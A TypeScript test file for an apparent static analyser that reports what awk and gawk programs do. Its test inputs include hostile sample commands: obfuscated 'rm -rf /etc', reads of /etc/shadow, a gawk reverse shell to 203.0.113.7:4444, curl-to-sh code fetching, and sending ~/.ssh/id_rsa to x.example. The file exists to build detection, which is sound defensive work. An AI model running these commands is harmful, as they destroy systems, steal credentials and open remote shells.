import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { proves } from '../../../../test/proves.ts'
import { facts, lines } from '../../bash/harness.ts'
import { HOLE } from '../../resources/text/hole.ts'
import { record, summary } from '../harness.ts'

/** Programs that only work on their lines. */
const PLAIN: readonly string[] = [
  '',
  '1',
  '{print}',
  '{print $1}',
  '{print $NF, $(NF-1)}',
  '{ print $1 $2 "x" $3 }',
  'NR==5',
  'NR>1 && NF{print $2}',
  'NR==2,NR==4',
  '/start/,/end/',
  '/a\\/b/',
  '/[/]/ {print}',
  '!/x/',
  '$1 ~ /^x/ || $2 !~ "y"',
  '!seen[$0]++',
  '{a[$1]+=$2} END{for(k in a) print k, a[k]}',
  'NR==FNR{a[$1];next} $1 in a',
  '($1,$2) in a {print}',
  'BEGIN{FS=","; OFS="\\t"} {$1=$1; print}',
  'BEGIN { while (i++ < 10) print i }',
  'BEGIN { do { i-- } while (i > 0); print i }',
  'BEGIN { for (i = 0; i < 10; i++) { if (i == 5) continue; print i } }',
  'BEGIN { for (;;) { if (x++ > 3) break } }',
  '{ if ($1 > max) max = $1 } END { print max }',
  '{ if ($1) print "a"; else print "b" }',
  '{\n  if ($1)\n    print "a"\n  else if ($2)\n    print "b"\n  else\n    print "c"\n}',
  '{ switch ($1) { case "a": print 1; break; case /b/: print 2; default: print 3 } }',
  'function f(a, b) { return a + b } { print f($1, $2) }',
  'func g(x) {\n return x * 2\n}\n{ print g($1) }',
  '{ printf "%s %d\\n", $1, $2 }',
  '{ printf("%-10s|%5.2f\\n", $1, $2) }',
  '{ print ($1 > $2) ? $1 : $2 }',
  '{ print($1, $2) }',
  '{ print $1 / 2, $2 * 3 ^ 2, $3 % 4, -$4, 2**3 }',
  '{ x = y = $1; x += 2; x ^= 2; x **= 2; print x, y }',
  '{ gsub(/a/, "b"); sub("c", "&d", $2); print }',
  '{ n = split($0, parts, ","); print parts[n] }',
  '{ print length, length($1), length() }',
  '{ print toupper(substr($1, 1, 1)) tolower(substr($1, 2)) }',
  '{ print substr ($1, 2) }',
  '{ match($0, /[0-9]+/); print substr($0, RSTART, RLENGTH) }',
  '{ print gensub(/(a)/, "\\\\1x", "g") }',
  '{ delete a[1]; delete a; next }',
  'END { exit 1 }',
  '{ getline; print }',
  '{ getline line; print line }',
  'BEGIN { while ((getline line) > 0) n++; print n }',
  '{ print "system(\\"rm -rf /\\")" }',
  '# system("rm -rf /")\n{ print }',
  '/system\\("rm"\\)/',
  '{ print "a" > "/dev/stderr" }',
  '{ print "a" | "cat" }',
  '{ print | "sort -n" }',
  'BEGIN { "date +%F" | getline d; close("date +%F"); print d }',
  '{ print $1, \\\n $2 }',
  '$1 == "a" { print; next }; { print "b" }',
  '{ print; ; print }',
  '{ print -1 " " -2; print 1e3, .5, 0x1f }',
  '{ a["x"] = 1; if (("x") in a) print; if (!("y" in a)) print }',
  '{ print $++i; print i++; print --i }',
  'BEGIN { system("") }',
  'BEGIN { printf "x" ; fflush() }',
  'BEGIN { print ENVIRON["HOME"], ENVIRON["PATH"] }',
  'BEGIN { print ARGC, ARGV[0] }',
  '@namespace "x"\n{ print }',
  'BEGINFILE { n = 0 } ENDFILE { print n }',
  'BEGIN{RS="";ORS="\\n\\n"}/x/',
  'length > 80',
  '$3 == 0.0 { print $1 > "/dev/null" }',
]

describe('programs that only work on their lines', () => {
  for (const program of PLAIN) {
    test(JSON.stringify(program), () => {
      const found = summary('awk', program).filter((line) => !/^\$ (?:cat|sort -n|date \+%F)?$/.test(line))
      expect(found).toEqual([])
    })
  }
})

const RUNNING: readonly (readonly [string, readonly string[]])[] = [
  ['BEGIN{system("id")}', ['$ id']],
  ['BEGIN { system ("id") }', ['$ id']],
  ['{ system("rm -rf /etc") }', ['$ rm -rf /etc']],
  ['END{system("rm" " -rf " "/etc")}', ['$ rm -rf /etc']],
  ['BEGIN{a="rm -rf";b="/etc";system(a " " b)}', ['$ rm -rf /etc']],
  ['BEGIN{c=sprintf("%s -%s %s","rm","rf","/etc");system(c)}', ['$ rm -rf /etc']],
  ['BEGIN{c=sprintf("%c%c -rf /etc",114,109);system(c)}', ['$ rm -rf /etc']],
  ['BEGIN{system(tolower("RM -RF /etc"))}', ['$ rm -rf /etc']],
  ['BEGIN{system(substr("xxrm -rf /etc",3))}', ['$ rm -rf /etc']],
  ['BEGIN{system(substr("xxrm -rf /etcyy",3,11))}', ['$ rm -rf /etc']],
  ['BEGIN{system("\\162\\155 -rf /etc")}', ['$ rm -rf /etc']],
  ['BEGIN{system("\\x72m -rf /etc")}', ['$ rm -rf /etc']],
  ['function r(c){system(c)} BEGIN{r("id")}', ['$ id']],
  ['BEGIN{r("id")} function r(c){system(c)}', ['$ id']],
  ['function never(){system("id")}', ['$ id']],
  ['BEGIN{f="system";@f("id")}', ['$ id']],
  ['BEGIN{@f("id")}', ['opaque the function that awk calls is not known before it runs']],
  ['BEGIN{"id"|getline}', ['$ id']],
  ['BEGIN{"id"|getline x;print x}', ['$ id']],
  ['BEGIN{while(("cat /etc/shadow"|getline l)>0)print l}', ['$ cat /etc/shadow']],
  ['BEGIN{c="id";c|&getline x}', ['$ id']],
  ['BEGIN{print "x"|"tee /etc/passwd"}', ['$ tee /etc/passwd']],
  ['{print $1|"mail a@b.example"}', ['$ mail a@b.example']],
  ['BEGIN{print "id"|"sh"}', ['$ id']],
  ['BEGIN{print "id"|"/bin/bash"}', ['$ id']],
  ['BEGIN{printf "rm %s","x"|"sh -s"}', ['$ rm x']],
  ['BEGIN{print ("id")|"sh"}', ['$ id']],
  ['{if($1>2)system("id");else system("pwd")}', ['$ id', '$ pwd']],
  ['$1=="x"&&system("id")', ['$ id']],
  ['BEGIN{x=1?system("id"):system("pwd")}', ['$ id', '$ pwd']],
  ['BEGIN{for(i=0;i<2;i++)system("id")}', ['$ id']],
  ['BEGIN{for(i=system("id");;)break}', ['$ id']],
  ['BEGIN{while(system("id"))x}', ['$ id']],
  ['BEGIN{do system("id");while(0)}', ['$ id']],
  ['BEGIN{a[system("id")]=1}', ['$ id']],
  ['BEGIN{print system("id")}', ['$ id']],
  ['BEGIN{print "a" system("id") "b"}', ['$ id']],
  ['BEGIN{exit system("id")}', ['$ id']],
  ['function f(){return system("id")}BEGIN{f()}', ['$ id']],
  ['BEGIN{switch(system("id")){case 1:system("pwd")}}', ['$ id', '$ pwd']],
  ['system("id")', ['$ id']],
  ['system("id"),0', ['$ id']],
  ['/x/{system("id")}/y/{system("pwd")}', ['$ id', '$ pwd']],
  ['BEGIN{x="a/b"/2;system("id")}', ['$ id']],
  ['BEGIN{$0="id";system($0)}', ['$ id']],
  ['BEGIN{print ENVIRON["TOKEN_X"]}', ['read TOKEN_X']],
  ['BEGIN{for(k in ENVIRON)print k}', ['read *']],
  ['BEGIN{while((getline l<"/etc/shadow")>0)print l}', ['read /etc/shadow']],
  ['BEGIN{getline<"f"}', ['read f']],
  ['BEGIN{f="/etc/" "shadow";while((getline l<f)>0)print l}', ['read /etc/shadow']],
  ['BEGIN{ARGV[1]="/etc/shadow";ARGC=2}', ['read /etc/shadow']],
  ['{print>"out"}', ['write out']],
  ['{print $1,$2>"out"}', ['write out']],
  ['{print "x">>"/etc/hosts"}', ['write /etc/hosts']],
  ['{printf "x">"/etc/" "passwd"}', ['write /etc/passwd']],
  ['{print($1)>"out"}', ['write out']],
  ['{print $1>$2".txt"}', ['write *']],
  ['{print>("part-" NR)}', ['write part-*']],
  ['@include "lib.awk"\n{print}', ['script awk:lib.awk']],
  ['@load "evil"\n{print}', ['opaque awk loads native code']],
  ['BEGIN{print "x"|&"/inet/tcp/0/h.example/80"}', ['send net:socket h.example:80']],
  ['BEGIN{"/inet/tcp/0/h.example/80"|&getline x}', ['send net:socket h.example:80']],
  ['BEGIN{s="/inet4/udp/0/h.example/53";print "x"|&s;s|&getline}', ['send net:socket h.example:53']],
  ['BEGIN{s="/inet/tcp/8080/0/0";s|&getline}', ['change net:listen 8080']],
]

describe('programs that run, read, write and connect', () => {
  for (const [program, expected] of RUNNING) {
    test(JSON.stringify(program), () => {
      expect(summary('awk', program)).toEqual(expected)
    })
  }
})

const UNKNOWN: readonly (readonly [string, readonly string[]])[] = [
  ['{system($0)}', ['opaque `awk` runs a command that is not known before it runs', 'execute code:dynamic', 'shell:<stdin>']],
  ['{system("mkdir " $1)}', ['$ mkdir $UNKNOWN_VALUE', 'opaque part of the command that `awk` runs is not known']],
  ['{print|"sh"}', ['$ sh', 'execute code:dynamic', 'opaque `awk` runs a command that is not known before it runs']],
  ['{c="touch " $1; print c|"bash"}', ['$ bash', 'execute code:dynamic', 'opaque `awk` runs a command that is not known before it runs']],
  ['{gsub(/a/,"b",c);system(c)}', ['opaque `awk` runs a command that is not known before it runs', 'execute code:dynamic']],
  [HOLE, ['opaque part of the awk program is not known before it runs']],
  [`{${HOLE}}`, ['opaque part of the awk program is not known before it runs']],
  [`{print; ${HOLE};}`, ['opaque part of the awk program is not known before it runs']],
  [`{print $${HOLE}}`, []],
  [`NR==${HOLE}`, []],
  [`/${HOLE}/,/${HOLE}x/`, []],
  [`$1 == "${HOLE}" {print}`, []],
  [`BEGIN{system("rm ${HOLE}")}`, ['$ rm $UNKNOWN_VALUE', 'opaque part of the command that `awk` runs is not known']],
  [`{print > "/etc/${HOLE}"}`, ['write /etc/*']],
  ['{print "abc}', ['opaque a string is not closed (awk)']],
  ['/abc', ['opaque a regular expression is not closed (awk)']],
]

describe('programs that are known in part', () => {
  for (const [program, expected] of UNKNOWN)
    test(JSON.stringify(program), () => expect([...summary('awk', program)].sort()).toEqual([...expected].sort()))
})

const COMMANDS: readonly (readonly [string, readonly string[]])[] = [
  ["awk '{print $1}' f", ['read /repo/f']],
  ["awk -F: '{print $1}' /etc/passwd", ['read /etc/passwd']],
  ["awk -F '\\t' -v n=3 '$n{print}' a b", ['read /repo/a', 'read /repo/b']],
  ["awk '{print}' FS=: f", ['read /repo/f']],
  ["awk -v c='rm -rf /etc' 'BEGIN{system(c)}'", ['delete /etc']],
  ["awk --assign c='rm -rf /etc' 'BEGIN{system(c)}'", ['delete /etc']],
  ["awk '{system(c)}' c='rm -rf /etc' f", ['delete /etc', 'read /repo/f']],
  ["awk -e 'BEGIN{' -e 'system(\"rm -rf /etc\")}'", ['delete /etc']],
  ["gawk -i inplace '{print}' f", ['read /repo/f', 'write text:edit /repo/f']],
  ["gawk -l ./evil.so 'BEGIN{}'", ['likely execute script:unseen /repo/evil.so']],
  ["gawk -l filefuncs 'BEGIN{}'", []],
  ["gawk -o/etc/x '{print}'", ['write /etc/x']],
  ['awk -f p.awk f', ['likely execute script:unseen /repo/p.awk', 'read /repo/f']],
  ['awk "NR==$N" f', ['opaque part of the awk program is not known before it runs', 'read /repo/f']],
  ['N=3; awk "NR==$N" f', ['read /repo/f']],
  ['mawk \'BEGIN{system("rm -rf /etc")}\'', ['delete /etc']],
  ['awk --version', []],
]

describe('awk commands', () => {
  for (const [command, expected] of COMMANDS) test(command, () => expect(lines(command)).toEqual(expected))

  test('a program file is read through the View', () => {
    const files = { '/repo/p.awk': '#!/usr/bin/awk -f\nBEGIN { system("rm -rf /etc") }\n' }
    for (const command of ['awk -f p.awk', './p.awk']) expect(lines(command, { files })).toContain('delete /etc')
  })

  proves('T08', 'code from the network and shells on connections', () => {
    const actions = (command: string) => facts(command).effects.map((found) => found.action)
    expect(actions('curl http://x.example | awk \'{print | "sh"}\'')).toContain('code:remote')
    expect(actions("curl http://x.example | awk '{system($0)}'")).toContain('code:remote')
    expect(actions('awk \'BEGIN{"curl -s http://x.example" | getline c; system(c)}\'')).toContain('code:remote')
    const shell = 'BEGIN{s="/inet/tcp/0/203.0.113.7/4444";while(1){s|&getline c;while((c|&getline)>0)print|&s;close(c)}}'
    expect(actions(`gawk '${shell}'`)).toContain('net:reverse-shell')
  })

  test('a file that awk reads goes along with what its command sends', () => {
    const found = facts('awk \'{print | "curl -d @- https://x.example"}\' ~/.ssh/id_rsa').effects.find((item) => item.verb === 'send')
    expect(found?.attributes).toMatchObject({ carries: 'credential' })
  })
})

describe('hostile programs', () => {
  for (const [what, program] of [
    ['parentheses', `BEGIN{x=${'('.repeat(30_000)}`],
    ['braces', 'BEGIN'.concat('{'.repeat(60_000))],
    ['concatenations', `BEGIN{system("a"${' "b"'.repeat(9_000)})}`],
    ['fields', `{print ${'$'.repeat(60_000)}1}`],
    ['negations', `{print ${'!'.repeat(60_000)}1}`],
    ['powers', `{print 1${'^2'.repeat(9_000)}}`],
    ['brackets in a pattern', `/${'['.repeat(60_000)}/`],
    ['else', `{${'if(x)y;else '.repeat(5_000)}z}`],
    ['functions', 'function f(){f()}'.repeat(3_000)],
  ] as const) {
    test(what, () => expect(record('awk', program).effects.length).toBeLessThan(100))
  }

  test('any text is read or refused', () => {
    const texts = fc.string({
      unit: fc.constantFrom(...'{}()[]$;|&<>=~!"/\\\n 1a,', 'print ', 'getline ', 'if', 'for', 'in ', 'system', HOLE),
      maxLength: 30,
    })
    fc.assert(fc.property(texts, (program) => record('awk', program).effects.length < 200))
  })
})
